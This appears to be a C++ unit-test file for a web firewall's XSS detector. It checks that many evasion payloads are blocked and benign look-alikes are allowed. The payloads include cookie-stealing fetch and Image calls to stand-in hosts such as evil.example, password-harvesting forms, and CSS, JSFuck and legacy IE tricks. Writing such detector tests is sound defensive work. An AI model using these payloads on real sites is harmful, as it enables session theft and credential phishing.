// XSS evasions beyond tags and handlers: active CSS, split schemes, template-call sinks,
// JSFuck, DOM writes, legacy IE markup; and benign look-alikes. End to end through the
// default profile.
#include <string>

#include "gtest/gtest.h"
#include "libs/detect/test_util.h"

namespace shieldx::detect {
namespace {

using testing::Flagged;
using testing::HasCategory;
using testing::HasRule;
using testing::InspectQueryValue;

class XssEvasion : public ::testing::TestWithParam<const char*> {};
TEST_P(XssEvasion, IsBlockedAsXss) {
  Verdict v = InspectQueryValue(GetParam());
  EXPECT_TRUE(Flagged(v)) << GetParam();
  EXPECT_TRUE(HasCategory(v, Category::kXss)) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Payloads, XssEvasion,
    ::testing::Values(
        // active CSS outside a style attribute
        "x=x:url(javascript", "-moz-binding:url(http://example.com/xss.xml#xss)",
        "' style=abc:expression(alert(1)) '", "<// style=x:expression\\28write(1)\\29>",
        "behavior: url(#default#time2)",
        // schemes split by characters browsers drop, with nothing after the colon
        "ja&tab;vascript: ", "v&newline;b&tab;s&newline;c&newline;r&tab;i&tab;p&newline;t&colon;:",
        // calls without parentheses through Function.prototype
        "[].sort.call`${alert}1337`", "[  ] . sort . call ` ${ alert } 1337 `",
        "Reflect.apply.call`${navigation.navigate}${navigation}`",
        // DOM access hidden by comments, whitespace and parentheses
        "document /*foo*/ .     cookie", "(document)[\"cookie\"]", "(document/*x*/)[\"cookie\"]",
        // JSFuck
        " !![]", "(![]+[])[+!+[]]",
        // writes into the page
        "document.querySelector(\"p\").textContent=\"XSS\"",
        "document.getElementById('x').innerHTML = '<b>'",
        // legacy IE markup and the 7-bit US-ASCII trick
        "<?import namespace=\"t\" implementation=\"#default#time2\">",
        // the same with the separator dropped (a filter that strips spaces)
        "<importimplementation=", "<import/implementation=\"x.htc\"",
        // probes: the attribute break with the handler value still to come; the bare scheme
        "<link / asdf href  /= ", "<BASE dsfds HREF / =", "<base href=//evil.example/>",
        "\"onzoom=", "<\"onpointerenter=", "javascript: \t", "javascript:\\u0020",
        "\xc2\xbcscript\xc2\xbe"
        "alert(1)\xc2\xbc/script\xc2\xbe",
        "\xbcscript\xbe"
        "alert(1)\xbc/script\xbe",
        // a new attribute started by whitespace in an unquoted attribute, value to come
        "  onload= ", " onwebkitplaybacktargetavailabilitychanged=",
        // IE's VML element behind an empty namespace prefix
        "<:vmlframe src=", "<:vmlframe src=\"//evil.example/x.vml#xss\">",
        // an element's name spelled out one letter at a time
        "<f o r m", "$<d i a l o g", "bar<s c r i p t>", "<I F R A M E src=x>",
        // a global's member named in escapes
        "self[\"\\x24\"]", "window['\\u0061lert']", "top [ '\\x6cocation' ]"));

class XssLookAlike : public ::testing::TestWithParam<const char*> {};
TEST_P(XssLookAlike, IsAllowed) {
  EXPECT_FALSE(Flagged(InspectQueryValue(GetParam()))) << GetParam();
}
INSTANTIATE_TEST_SUITE_P(
    Text, XssLookAlike,
    ::testing::Values("![](images/diagram.png)", "![alt text](https://example.com/a.png)",
                      "the expression (x+1) is positive", "Note: expression matters",
                      "behavior analysis", "url(image.png) no-repeat",
                      "background: url('/img/bg.png')", "use `fn.call` to invoke it", "a.call(b)",
                      "document.title == 'Home'", "javascript developer wanted",
                      "Java\tScript course, week 1", "\xc2\xbc cup sugar, \xc2\xbe cup flour",
                      "\xd0\xbc\xd0\xb0\xd0\xbc\xd0\xb0 script",
                      "{\"code\": \"if (a.innerText === b) return;\"}", "see document . pdf",
                      "\"online=yes\"", "5\" > 3\" and that's it", "he said \"no\" > <b>ok</b>",
                      // truncated HTML from real forms: attribute end, text, closing tag
                      "utm_campaign=pr_shop\">Baby Wear</a>",
                      "it's \"online=", "JavaScript: the good parts", "javascript: tutorial",
                      // whitespace then an on-word: ordinary words, or text before the name
                      " online= ", " only= 3", "set onload= in the config",
                      "x onload=", "  onthisisaverylongwordthathasmorethanfiftycharactersss= ",
                      "a <: b and c >: d", "ratio 1<:2",
                      // letters spaced out after '<' that spell no element, or too few
                      "<a b c d", "a < b c d e", "< S A L E >", "x <i t> y", "<b>r e d</b>",
                      // a global's member with a plain name, an escape elsewhere
                      "window[\"foo\"]", "C:\\x64\\bin and self[\"key\"]", "myself[\"\\x24\"]"));

// A complete tag where no application puts markup (cookies, argument names, most headers).
Verdict WithHeader(const std::string& name, const std::string& value) {
  OwnedHttpRequest r = testing::Get("/account");
  r.headers.emplace_back(name, value);
  return testing::Inspect(r);
}

TEST(XssTagBreak, ClosingTheAttributeAndTagThenMarkupIsBlocked) {
  for (const char* v : {"\"http://www.google.com./\">xss</a>", "'><b>hi</b>", "\" /><i>x</i>",
                        "\"import\" href=\"test.svg\" />", "' title='x'>"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(Flagged(r)) << v;
    EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
  }
}

TEST(XssTagBreak, QuotesAndGreaterThanInTextAndCodeAreAllowed) {
  for (const char* v : {"pr_shop\">MamaBearBabyWear</a>",  // a link cut out of HTML by a crawler
                        "echo \"x\" > out.txt", "x = \"a\" >= b", "abc\" rel=\"nofollow\">",
                        "\"quoted\" > then text", "\"see\" > <https://example.com/>"}) {
    EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
  }
  // Comparisons of quoted strings are SQL-shaped (the SQL detector judges them), not markup.
  for (const char* v : {"\"a\" > \"b\" in sort order", "\"Иван\" > \"Пётр\"", "'a'>'b' is true"}) {
    EXPECT_FALSE(HasCategory(InspectQueryValue(v), Category::kXss)) << v;
  }
}

TEST(XssOutOfPlace, CompleteTagInACookieIsBlocked) {
  Verdict v = WithHeader("Cookie", "theme=<STYLE>@import'//evil.example/x.css';");
  EXPECT_TRUE(Flagged(v));
  EXPECT_TRUE(HasCategory(v, Category::kXss));
  EXPECT_TRUE(Flagged(WithHeader("Cookie", "pref=<b onclick>")));
}

TEST(XssOutOfPlace, CompleteTagInAnArgumentNameIsBlocked) {
  Verdict v = testing::Inspect(testing::Get("/search?" + testing::UrlEncode("<marquee>") + "=1"));
  EXPECT_TRUE(Flagged(v));
  EXPECT_TRUE(HasCategory(v, Category::kXss));
}

TEST(XssOutOfPlace, SameTagInAQueryValueStaysBelowBlocking) {
  // Rich-text fields post ordinary markup; only its place makes it suspicious.
  EXPECT_FALSE(Flagged(InspectQueryValue("<b>bold</b> and <i>italic</i>")));
}

TEST(XssOutOfPlace, BracketedUrlsAndComparisonsInHeadersAreAllowed) {
  EXPECT_FALSE(Flagged(WithHeader("Link", "<https://cdn.example/app.css>; rel=preload")));
  EXPECT_FALSE(Flagged(WithHeader("Warning", "299 - \"see <https://example.com/x>\"")));
  EXPECT_FALSE(Flagged(WithHeader("Cookie", "cmp=a<b; note=x < y")));
  EXPECT_FALSE(Flagged(WithHeader("Referer", "https://shop.example/?q=<b>sale</b>")));
}

// What comment boxes, CMS forms and ticket editors post: formatting, links and images to
// web URLs, passive inline style, labelling attributes.
TEST(XssAutolink, UrlsInAngleBracketsAreAllowedAndHandlersAfterThemAreNot) {
  for (const char* text :
       {"see <https://example.com/x?id=1> for details",
        "Bug #3824: <https://bugs.freedesktop.org/show_bug.cgi?id=3824> Correct the license",
        "<http://marc.info/?l=git&r=1> and <ftp://ftp.example.org/pub/?a=b>"}) {
    Verdict v = testing::InspectQueryValue(text);
    EXPECT_FALSE(testing::Flagged(v)) << text << " -> " << v.explanation;
  }
  for (const char* attack : {"<https://x/onmouseover=alert(1)>", "<https://x onfocus=alert(1)>",
                             "<http: src=x onerror=alert(1)>"}) {
    Verdict v = testing::InspectQueryValue(attack);
    EXPECT_TRUE(testing::Flagged(v)) << attack << " -> " << v.explanation;
    EXPECT_TRUE(testing::HasCategory(v, Category::kXss)) << attack;
  }
}

TEST(XssRichText, EditorMarkupIsAllowed) {
  for (const char* v : {
           "<p>I agree with <a href=\"https://en.wikipedia.org/wiki/Cross-site_scripting\">this"
           "</a> point.</p>",
           "<a href=\"https://example.com/page?a=1&amp;b=2\" target=\"_blank\" "
           "rel=\"noopener\">link</a>",
           "<img src=\"https://cdn.example.com/u/42.jpg\" alt=\"my cat\" width=\"200\">",
           "<p style=\"text-align: center; color: #333;\">Centered</p>",
           "<span style=\"font-family: 'Times New Roman', serif; color: rgb(0, 0, 0)\">x</span>",
           "<span class=\"mention\" data-user-id=\"17\">@alice</span> can you review?",
           "<pre><code class=\"language-js\">let a = 1;</code></pre>",
           "```html\n<div class=\"card\"><img src=\"/logo.png\" alt=\"logo\"></div>\n```",
           "<a href=\"mailto:o'neil@example.com\">mail me</a>",
           "<p><a href=\"tel:+15551234567\">Call</a> or <a href=\"sms:+15551234567\">text</a></p>",
           "<h2 id=\"update\">Update</h2><p>We've moved the meeting &mdash; see you.</p>",
           "<p><img src=\"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADU"
           "lEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==\"></p>",
           "<a name=\"version_3_38_4\"></a> <h3>2022-05-04 (3.38.4)</h3>",
           "<ol type=\"a\" start=\"3\"><li value=\"3\">third</li></ol>",
           "<nav class=\"navbar\" role=\"navigation\"><a class=\"brand\" href=\"#\">Home</a></nav>",
           "<section id=\"faq\"><header><time datetime=\"2024-01-02\">Jan "
           "2</time></header></section>",
           "<table summary=\"prices\"><tr><th scope=\"col\">Item</th></tr></table>",
       }) {
    EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
  }
}

// A relative link or image ("page.html", "../", "docs/intro", "?page=2") resolves against
// the page: as inert as a root-relative one. A scheme in it, or a handler, still counts.
TEST(XssRichText, RelativeReferencesAreInert) {
  for (const char* v :
       {"BLAH <A HREF=\"FOO.HTML\">FOO</A>", "see <a href=\"docs/intro\">intro</a>",
        "<a href=\"?page=2\">next</a>", "<p><img src=\"images/cat.png\" alt=\"cat\"></p>"}) {
    EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
  }
  for (const char* v :
       {"<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"x\" onclick=\"alert(1)\">x</a>",
        "<a href=\"data:text/html,x\">x</a>", "<a href=\" javascript:alert(1)\">x</a>"}) {
    EXPECT_TRUE(Flagged(InspectQueryValue(v))) << v;
  }
}

// The no-op links behind menus and buttons ("javascript:void(0)", "javascript:;") run
// nothing, as a value or in an editor's link; anything after the no-op, or a handler, counts.
TEST(XssRichText, NoOpScriptLinksAreInert) {
  for (const char* v :
       {"javascript:void(0)", "javascript: void(0);", "javascript:;", "javascript:void 0",
        "<a href=\"javascript:void(0)\">Menu</a>", "<a href=\"javascript:;\">x</a>"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
  }
  for (const char* v :
       {"javascript:", "javascript:void(alert(1))", "javascript:void(0);alert(1)",
        "javascript:void(0)\nalert(1)", "<a href=\"javascript:void(0);alert(1)\">x</a>",
        "<a href=\"javascript:void(0)\" onclick=\"x()\">Menu</a>"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(Flagged(r)) << v << " -> " << r.explanation;
  }
}

// Each value posted as a JSON field is allowed, or blocked as XSS.
void ExpectJsonAllowed(std::initializer_list<const char*> values) {
  testing::ExpectAllAllowed(testing::InspectAsJson, values);
}
void ExpectJsonXss(std::initializer_list<const char*> values) {
  testing::ExpectAllBlockedAs(testing::InspectAsJson, Category::kXss, values);
}

// A quoted handler that does nothing ("return false;", "", "void(0)") on a
// link or button is what editors and templates leave; a handler with code, an unquoted or
// unclosed one, or a tag breaking out of an attribute still counts.
TEST(XssRichText, NoOpHandlersAreInert) {
  ExpectJsonAllowed({"<p><a href=\"https://example.com\" onclick=\"return false;\">x</a></p>",
                     "<a href=\"#\" onclick=\"\">x</a>",
                     "<a href=\"#top\" onclick=\"void(0)\">Top</a>"});
  ExpectJsonXss({"<a href=\"#\" onclick=\"return false;alert(1)\">x</a>",
                 "<a href=# onclick=return>x</a>", "<img src=x onerror=\"",
                 "\"><a onclick=\"return false\">x</a>"});
}

// What editors also save: media with web URLs, labels, a task list's checkbox, inline SVG
// icons made of shapes. A handler, a script or data URL, an animation, a script, another
// input type or a foreign SVG namespace still counts.
TEST(XssRichText, MediaLabelsCheckboxesAndSvgIconsAreInert) {
  ExpectJsonAllowed(
      {"<p>Watch:</p><video controls width=\"250\"><source src=\"/media/a.webm\" "
       "type=\"video/webm\"></video>",
       "<audio controls src=\"/media/roar.mp3\"></audio>", "<label for=\"x\">Name</label>",
       "<input type=\"checkbox\" checked disabled> Task done",
       "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 24 24\"><path fill=\"none\" "
       "d=\"M12 2L2 7l10 5\"/></svg>"});
  ExpectJsonXss({"<video src=\"x\" onerror=\"alert(1)\"></video>",
                 "<video poster=\"javascript:alert(1)\">",
                 "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>",
                 "<svg><script>alert(1)</script></svg>", "<input type=\"text\" value=\"x\">",
                 "<svg xmlns=\"http://evil.example\"><path d=\"M1\"/></svg>"});
}

// Elements no HTML parser gives a behaviour to (an XML sample in a ticket, a template's own
// tags) are inert with ordinary attributes; a handler, a script URL, a style or an active
// HTML element still counts.
TEST(XssRichText, CustomElementsWithOrdinaryAttributesAreInert) {
  for (const char* v :
       {"XML sample: <order id=\"5\"><item sku=\"A1\" qty=\"2\"/></order>",
        "<user name=\"bob\" role=\"admin\"/>", "<custom-el data-x=\"1\">hi</custom-el>"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
  }
  for (const char* v :
       {"<x onclick=alert(1)>click", "<x href=\"javascript:alert(1)\">x</x>",
        "<xss style=\"x:expression(alert(1))\">",
        "<form action=\"https://evil.example/login\"><input name=\"pw\" type=\"password\"></form>",
        "<button form=\"f\" formaction=\"https://evil.example/\">go</button>"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(Flagged(r)) << v << " -> " << r.explanation;
  }
}

TEST(XssRichText, SameTagsWithActiveOrUnusualAttributesAreBlocked) {
  for (const char* v : {
           "<a href=\"javascript:alert(1)\">x</a>",
           "<img src=\"https://cdn.example.com/a.jpg\" alt=\"x\" onerror=\"alert(1)\">",
           "<p style=\"background:url(javascript:alert(1))\">x</p>",
           "<div style=\"binding: url(http://evil.example/x.xml#b)\">x</div>",
           "<span style=\"color:red}body{background:url(//evil.example/x)\">x</span>",
           "<div style=\"width:1px/*\">x</div>",
           "<div style=\"font-family:'a;color:red'x\">x</div>",
           "<a href=//evil.example/>x</a>",
           "<img src=\"x\" alt=\"y\">",
           "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
           "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
           "<iframe src=\"https://example.com/\" title=\"x\"></iframe>",
           "<form action=\"https://evil.example/login\"><input name=\"pw\"></form>",
           "<nav class=\"x\" onmouseover=\"alert(1)\">x</nav>",
           "<a name=\"x\" href=\"javascript:alert(1)\">x</a>",
           "<section style=\"background:url(javascript:alert(1))\">x</section>",
           "<li value=\"1\" onclick=\"alert(1)\">x</li>",
       }) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(Flagged(r)) << v;
    EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
  }
}

// A call followed on the same line by a word cannot run in any script context (syntax
// error); in a ticket or a search box it is prose about code.
TEST(XssJsSink, CallFollowedByProseIsAllowed) {
  for (const char* v : {"confirm(order) button does nothing", "alert('Saved!') shows twice",
                        "why does print(x) show nothing", "window.print() doesn't work"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(HasCategory(r, Category::kXss) && Flagged(r)) << v;
  }
}

// Two plain words opening a call's arguments are a syntax error too: V8 stack frames in the
// error reports that browser monitoring posts ("at eval (eval at <anonymous> (...))") are
// traces. So is a frame's location as the whole argument list (a file or URL and line
// numbers, "Native Method"), as in a Java trace pasted into a ticket. Operator keywords
// before or between words keep the call ("eval(typeof x)").
TEST(XssJsSink, StackFramesAreTraces) {
  for (const char* v :
       {"at eval (eval at <anonymous> (vendor.js:1:1), <anonymous>:1:1)",
        "TypeError: x\n    at eval (eval at render (https://cdn.example.com/a.js:1:1))",
        "Our Java client logs: java.net.SocketTimeoutException: Read timed out "
        "at com.acme.Client.fetch(Client.java:88)",
        "at Object.fetch (https://cdn.example.com/app.js:1:2)", "at eval (Native Method)"}) {
    Verdict r = testing::InspectAsJson(v);
    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
  }
  for (const char* v :
       {"x';eval(typeof x)//", "x';eval(new Function('x'))//",
        "<img src=x onerror=eval(name in window)>", "x';fetch('//evil.example/'+document.cookie)//",
        "<img src=x onerror=fetch(location.hash.slice(1))>"}) {
    Verdict r = testing::InspectAsJson(v);
    EXPECT_TRUE(HasCategory(r, Category::kXss) && Flagged(r)) << v << " -> " << r.explanation;
  }
}

// CJK text is written without spaces between words; a CJK phrase after a bare tag or after a
// call reads like the Latin words above. Code after them is still judged.
TEST(XssCjkProse, TagAndCallNamedInACjkSentenceAreAllowed) {
  for (const char* v :
       {"用 <script> 标签引入 jquery.min.js 后报错", "JavaScript 里 alert('hello') 为什么不弹窗",
        "alert('hello')为什么不弹窗"}) {
    Verdict r = testing::InspectAsForm(v);
    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
  }
  for (const char* v : {"<script>alert(1)</script>中文", "<script>为什么=alert(1)</script>",
                        "alert(1)//中文", "';alert(1)//中文中文", "<script> 标签=alert(1)"}) {
    Verdict r = testing::InspectAsForm(v);
    EXPECT_TRUE(HasCategory(r, Category::kXss) && Flagged(r)) << v << " -> " << r.explanation;
  }
}

TEST(XssJsSink, CallFollowedByCodeOrALineBreakIsBlocked) {
  for (const char* v : {"alert(1)", "alert(1);x", "alert(1)//x", "alert(1)\nx y", "'-alert(1)-'",
                        "confirm(1) in x", "\";alert(document.cookie) </script>"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(Flagged(r)) << v;
    EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
  }
}

// The bare tag named in prose: what follows cannot be a script body (two plain words side by
// side are a syntax error, as is a binary operator word first: "in", "instanceof"), and a bare
// frame loads nothing. The word "tag" or "element" right after names the tag even at the end
// of a sentence or a remark.
TEST(XssTagMention, BareTagFollowedByProseIsAllowed) {
  for (const char* v : {"How do I escape <script> tags in a template?",
                        "<iframe> embedding is not allowed on our forum, right?",
                        "the <object> element is deprecated here", "How do I escape <script> tags?",
                        "Fix XSS in comments (sanitize <script> tags) and SQLi", "<script> tags",
                        "strip <iframe> elements.",
                        // A script cannot open with a binary operator word.
                        "fix: escape <script> in templates; drop table of contents",
                        // English contractions glue a name to a string: a syntax error too.
                        "<script> doesn't load in IE", "<iframe> isn't allowed here"}) {
    EXPECT_FALSE(Flagged(InspectQueryValue(v))) << v;
  }
}

TEST(XssTagMention, BareTagFollowedByCodeIsBlocked) {
  for (const char* v :
       {"<script>alert(1)", "<script>var a = document.cookie", "<script>x in y</script>",
        "\"><script> in x;alert(1)</script>", "<script>doesn't=1;alert(1)</script>",
        "<script> tags;alert(1)", "<script> tags:alert(1)", "<script> tags\nalert(1)", "<script>",
        "<script>new Image().src='//e.example/'+document.cookie</script>",
        "<iframe src=\"https://evil.example/\"> look here"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_TRUE(Flagged(r)) << v;
    EXPECT_TRUE(HasCategory(r, Category::kXss)) << v;
  }
}

// document.cookie and its kind named in a sentence (four words before, a space before it and
// a space or a sentence's punctuation after) are prose about the property; alone, or with an
// operator, a bracket or a quote next to it, they are script.
TEST(XssDomAccess, APropertyNamedInASentenceIsProse) {
  ExpectJsonAllowed({"Is it safe to store JWT in localStorage or document.cookie?",
                     "please never paste your document.cookie here"});
  ExpectJsonXss({"document.cookie", "x'+document.cookie+'", "we read document.cookie; then it",
                 "\"><img src=x onerror=alert(document.cookie)>"});
}

// Shorter searches: only words before the property, or a plain word right after it. Two
// names side by side on one line are a syntax error in any script context. A keyword that
// takes an expression ("void", "typeof", "in") keeps it code.
TEST(XssDomAccess, APropertyNextToAPlainWordIsProse) {
  ExpectJsonAllowed({"what is document.cookie", "how to use window.location in react",
                     "document.cookie not working in safari", "localStorage vs document.cookie",
                     "window.location.href not working", "document.location undefined"});
  ExpectJsonXss({"void document.cookie", "document.cookie in x", "typeof document.cookie",
                 "x;document.cookie not", "document.cookie.split"});
}

// The properties that redirect the page score like document.cookie on their own (CRS
// 941180); a plain word beside them is still prose (above).
TEST(XssDomAccess, WindowLocationAloneIsScript) {
  ExpectJsonXss({"window.location", "document.location", "window.location.href"});
  for (const char* v : {"window.location", "document.location"}) {
    EXPECT_TRUE(HasRule(InspectQueryValue(v), "xss.dom-access")) << v;
  }
}

// btoa() encodes what an injected script sends away (btoa(document.cookie)); called like
// atob() it is a sink. Named in prose it is not.
TEST(XssJsSink, BtoaCallIsASink) {
  ExpectJsonXss({"btoa()", "btoa(document.cookie)", "fetch('//e.example/?'+btoa(x))"});
  ExpectJsonAllowed({"btoa is a function", "Use btoa() to encode a string"});
}

// `'formaction=` ending a value: the quote that closes the application's attribute, then
// the attribute that points a button's form at a URL (CRS 941160), like `'onfocus=`.
// The attribute named without a quote before it is no break.
TEST(XssAttributeBreak, FormactionProbeAtTheEnd) {
  for (const char* v : {"'formaction=", "\" formaction=", "x\" formaction = "}) {
    EXPECT_TRUE(HasRule(InspectQueryValue(v), "xss.attribute-break")) << v;
  }
  for (const char* v :
       {"formaction=", "the formaction=", "'formaction' attribute", "formaction='/save'"}) {
    EXPECT_FALSE(HasRule(InspectQueryValue(v), "xss.attribute-break")) << v;
  }
}

// Generic type parameters glued to a type's name ("java.util.List<String>", "Map<K, V>") are
// no markup; a known element, attributes or a handler after a name still are.
TEST(XssTagMention, GenericTypeParametersAreNoMarkup) {
  ExpectJsonAllowed({"java.util.List<String>", "Map<String, Object>", "Vec<u8> buffer"});
  ExpectJsonXss(
      {"x<script>alert(1)</script>", "a<img src=x onerror=alert(1)>", "abc<svg/onload=alert(1)>"});
}

// Storage and request objects named as data (a browser beacon's feature keys, a search) are
// not DOM access; used as objects they are.
TEST(XssDomAccess, ObjectNamedAsDataIsNoAccess) {
  for (const char* v :
       {"{\"cookieEnabled\":1,\"userAgent\":\"Mozilla/5.0 (Windows NT 10.0; Win64; x64) "
        "AppleWebKit/537.36 (KHTML, like Gecko)\",\"sessionStorage\":1,\"localStorage\":1}",
        "localstorage limit (per origin)", "XMLHttpRequest vs fetch()",
        "renew localStorage (quota)"}) {
    Verdict r = InspectQueryValue(v);
    EXPECT_FALSE(HasRule(r, "xss.dom-access")) << v << " -> " << r.explanation;
  }
  for (const char* v :
       {"localStorage.getItem('t')", "localStorage['jwt']", "stringify(localStorage)",
        "new XMLHttpRequest()", "f(a, sessionStorage)", "localStorage . token",
        "{\"a\":1,\"localStorage\":1} localStorage.token"}) {
    Verdict r = testing::InspectAsForm(v);
    EXPECT_TRUE(HasRule(r, "xss.dom-access")) << v << " -> " << r.explanation;
  }
}

// Every tag of a value is read: a cap on the tags read let markup after 64 harmless tags
// through. The attribute text that markup built to be re-read ("<img src=x onerror=" over
// and over, each '<' in an unquoted value also read as a tag) makes the tags read again is
// bounded, but the tags themselves are all seen.
TEST(XssManyTags, AScriptAfterManyHarmlessTagsIsFound) {
  std::string padding;
  for (int i = 0; i < 200; ++i) padding += "<b>x</b> ";
  for (const char* tail : {"<script src=//evil.example/x.js></script>",
                           "<base href=//evil.example/>", "<object data=//evil.example/x.swf>"}) {
    const std::string value = padding + tail;
    Verdict v = InspectQueryValue(value);
    EXPECT_TRUE(Flagged(v)) << tail;
    EXPECT_TRUE(HasCategory(v, Category::kXss)) << tail;
  }
  std::string rich;
  for (int i = 0; i < 200; ++i) rich += "<p><b>bold</b> and <i>it</i></p>";
  EXPECT_FALSE(Flagged(InspectQueryValue(rich)));
  std::string rebuilt;
  for (int i = 0; i < 3000; ++i) rebuilt += "<img src=x onerror=";
  EXPECT_TRUE(Flagged(InspectQueryValue(rebuilt + "alert(1)>")));
}

}  // namespace
}  // namespace shieldx::detect
